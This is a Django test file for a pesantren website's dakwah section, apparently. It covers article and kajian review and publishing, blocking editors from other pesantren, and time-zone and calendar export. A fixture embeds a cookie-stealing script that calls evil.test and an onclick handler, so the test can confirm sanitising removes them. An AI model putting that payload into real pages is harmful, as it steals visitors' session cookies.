"""The issue's story through the dashboard, as the pesantren's people use it:
an editor writes and submits, the owner publishes, the public reads."""

from datetime import time, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.conf import settings
from django.test import Client
from django.utils import timezone

from dakwah.models import Article, Kajian, Status
from pesantren.models import Membership
from tests.dakwah.factories import UstadzFactory
from tests.factories import PesantrenFactory, make_member
from tests.html import parse

pytestmark = pytest.mark.django_db

VERSE = "فَإِنَّ مَعَ الْعُسْرِ يُسْرًا"
PASTED = (
    f'<p>Allah berfirman:</p><blockquote class="quran" lang="ar" dir="rtl">'
    f"<p>{VERSE}</p></blockquote>"
    "<script>fetch('https://evil.test/?c=' + document.cookie)</script>"
    '<p onclick="steal()">Bersama kesulitan ada kemudahan.</p>'
)


def english_client():
    client = Client()
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


def sign_in(user):
    client = english_client()
    client.force_login(user)
    return client


def test_editor_writes_owner_publishes_and_another_pesantren_cannot_touch_it(
    pesantren, owner, editor, category, media_root
):
    other_editor = make_member(
        PesantrenFactory(name="Pesantren Lain"),
        role=Membership.Role.EDITOR,
        email="editor@lain.test",
    )
    editor_client, owner_client = sign_in(editor), sign_in(owner)
    outsider = sign_in(other_editor)
    visitor = english_client()

    # The editor adds the ustadz, then writes the article with a pasted
    # script and an Arabic verse, and sends it for review.
    editor_client.post(
        "/seller/dakwah/ustadz/new/",
        {"name": "Ustadz Hasan Basri", "short_bio": "Pengajar tafsir."},
    )
    ustadz = pesantren.ustadz.get()
    editor_client.post(
        "/seller/dakwah/articles/new/",
        {
            "title": "Bersama Kesulitan Ada Kemudahan",
            "summary": "Tafsir QS. Al-Insyirah: 5-6.",
            "category": category.pk,
            "author": ustadz.pk,
            "body": PASTED,
            "tags": "tafsir",
            "action": "submit",
        },
    )
    article = Article.objects.get()

    # A weekly kajian on Thursdays after Maghrib, 18.15 WITA, from the next
    # Thursday on.
    today = timezone.localdate()
    first = today + timedelta(days=(3 - today.weekday()) % 7 or 7)
    kajian_form = {
        "title": "Kajian Tafsir Juz Amma",
        "theme": "Tafsir Juz Amma",
        "ustadz": ustadz.pk,
        "start_date": first.isoformat(),
        "start_time": "18:15",
        "time_zone": "Asia/Makassar",
        "duration_minutes": "90",
        "recurrence": "weekly",
        "venue_name": "Masjid Pondok",
        "audience": "umum",
    }
    editor_client.post(
        "/seller/dakwah/kajian/new/", {**kajian_form, "action": "submit"}
    )
    kajian = Kajian.objects.get()
    assert (article.status, kajian.status) == (Status.IN_REVIEW, Status.IN_REVIEW)

    # Nothing is public yet; the owner finds both waiting for review.
    assert visitor.get(article.get_absolute_url()).status_code == 404
    review = parse(owner_client.get("/seller/dakwah/")).find("section", id="in-review")
    assert [link.text() for link in review.find_all("a", cls="title")] == [
        "Bersama Kesulitan Ada Kemudahan",
        "Kajian Tafsir Juz Amma",
    ]

    # An editor of another pesantren can neither see nor change either.
    for url in (
        f"/seller/dakwah/articles/{article.pk}/",
        f"/seller/dakwah/articles/{article.pk}/publish/",
        f"/seller/dakwah/kajian/{kajian.pk}/",
        f"/seller/dakwah/kajian/{kajian.pk}/publish/",
    ):
        assert outsider.get(url).status_code == 404
        assert (
            outsider.post(url, {"title": "Dibajak", "action": "publish"}).status_code
            == 404
        )

    # The owner publishes the article from the review list and the kajian
    # from its page.
    owner_client.post(
        f"/seller/dakwah/articles/{article.pk}/publish/", {"next": "/seller/dakwah/"}
    )
    owner_client.post(
        f"/seller/dakwah/kajian/{kajian.pk}/", {**kajian_form, "action": "publish"}
    )
    article.refresh_from_db()
    kajian.refresh_from_db()
    assert (article.status, kajian.status) == (Status.PUBLISHED, Status.PUBLISHED)
    assert (article.title, kajian.title) == (
        "Bersama Kesulitan Ada Kemudahan",
        "Kajian Tafsir Juz Amma",
    )

    # It is on /dakwah/, on the storefront and in the feed, without the script.
    home = visitor.get("/dakwah/").content.decode()
    storefront = visitor.get("/pesantren/al-hikmah/").content.decode()
    feed = visitor.get("/dakwah/feed/artikel/").content.decode()
    page = visitor.get(article.get_absolute_url()).content.decode()
    for html in (home, storefront, feed):
        assert "Bersama Kesulitan Ada Kemudahan" in html
    assert "Kajian Tafsir Juz Amma" in home and "Kajian Tafsir Juz Amma" in storefront
    body = parse(page).find("div", cls="prose")
    quote = body.find("blockquote", cls="quran")
    assert (quote.attrs["lang"], quote.attrs["dir"], quote.text()) == (
        "ar",
        "rtl",
        VERSE,
    )
    assert body.find_all("script") == []
    for trace in ("evil.test", "document.cookie", "onclick", "steal()"):
        assert trace not in page and trace not in feed

    # The kajian shows its next session in WIB and exports to a calendar.
    next_start = kajian.next_start_at()
    in_wib = next_start.astimezone(ZoneInfo("Asia/Jakarta"))
    assert (next_start.date(), in_wib.time()) == (first, time(17, 15))
    kajian_page = visitor.get(kajian.get_absolute_url()).content.decode()
    assert f"{in_wib:%A}, {in_wib.day} {in_wib:%B %Y} · 17.15 WIB</time>" in kajian_page
    calendar = visitor.get(f"{kajian.get_absolute_url()}kalender.ics")
    text = calendar.content.decode()
    assert calendar["Content-Type"] == "text/calendar; charset=utf-8"
    assert f"DTSTART;TZID=Asia/Makassar:{first:%Y%m%d}T181500\r\n" in text
    assert "RRULE:FREQ=WEEKLY;BYDAY=TH\r\n" in text

    # Published, the outsider still cannot change it.
    outsider.post(f"/seller/dakwah/kajian/{kajian.pk}/", {**kajian_form, "title": "X"})
    kajian.refresh_from_db()
    assert kajian.title == "Kajian Tafsir Juz Amma"


def test_an_editor_cannot_name_an_ustadz_of_another_pesantren_as_author(
    pesantren, editor, ustadz, category, media_root
):
    foreign = UstadzFactory(name="Ustadz Pesantren Lain")

    response = sign_in(editor).post(
        "/seller/dakwah/articles/new/",
        {
            "title": "Judul",
            "summary": "Ringkasan.",
            "category": category.pk,
            "author": foreign.pk,
            "body": "<p>Isi.</p>",
            "action": "submit",
        },
    )

    assert response.status_code == 200
    assert parse(response).find("div", id="field-author").find("li").text() == (
        "Select a valid choice. That choice is not one of the available choices."
    )
    assert Article.objects.count() == 0
